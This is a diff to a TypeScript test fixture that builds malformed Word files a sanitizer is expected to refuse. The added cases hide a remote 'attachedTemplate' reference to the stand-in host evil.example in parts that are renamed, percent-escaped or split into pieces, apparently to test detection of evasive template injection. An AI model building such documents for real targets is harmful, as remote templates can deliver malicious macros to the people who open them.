@@ -9,6 +9,18 @@ const billion =
 /** A program for Windows, as far as it matters. */
 const program = text(`MZ${'x'.repeat(200)}`);
 
+/** References to a template on a server, in a part of this name that is declared a text. */
+function withHiddenReferences(name: string): Buffer {
+  const ending = name.slice(name.lastIndexOf('.') + 1);
+  return makeDocx({
+    parts: {
+      [name]:
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+    },
+    types: `<Default Extension="${ending}" ContentType="application/xml"/>`,
+  });
+}
+
 /** Word documents that are too much to unpack, damaged, or more than their parts. */
 export const misshapenDocx = [
   refused(
@@ -47,6 +59,28 @@ export const misshapenDocx = [
     'A part that has another name at its head than in the directory',
     'Programs go by the one or the other',
     () => makeDocx({ lies: { of: 'word/styles.xml', headed: 'word/stylez.xml' } }),
+  ),
+  refused(
+    'renamed-in-unicode.docx',
+    'A template on a server, in a part that a field beside its name calls a text',
+    'Programs go by the one or the other',
+    () =>
+      makeDocx({
+        settings: [['rId1', 'attachedTemplate', 'https://evil.example/a.dotm', 'External']],
+        lies: { of: 'word/_rels/settings.xml.rels', renamed: 'customXml/item1.xml' },
+      }),
+  ),
+  refused(
+    'renamed-in-escapes.docx',
+    'The same in a part whose name has a letter as an escape',
+    'Programs may resolve it',
+    () => withHiddenReferences('word/_rels/settings.xml.%72els'),
+  ),
+  refused(
+    'in-pieces.docx',
+    'The same in a part that is there in pieces',
+    'Programs may put them together',
+    () => withHiddenReferences('word/_rels/settings.xml.rels/[0].last.piece'),
   ),
   refused('part-twice.docx', 'Two parts of one name', 'Programs take the first or the last', () => {
     const again = 'word/document.xml';
